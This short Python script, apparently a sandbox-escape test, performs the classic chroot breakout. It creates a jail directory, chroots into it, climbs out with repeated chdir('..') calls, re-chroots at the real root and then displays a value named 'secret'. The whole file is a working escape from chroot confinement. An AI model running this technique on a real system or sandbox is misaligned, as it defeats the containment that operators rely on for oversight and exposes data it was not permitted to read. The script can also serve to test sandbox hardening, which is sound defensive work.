"""Climb out of the changed root."""

from __future__ import annotations

import os

from inside import W, show

os.makedirs("/tmp/jail/x", exist_ok=True)
os.chroot("/tmp/jail")
for _ in range(64):
    os.chdir("..")
os.chroot(".")
show(W["secret"])
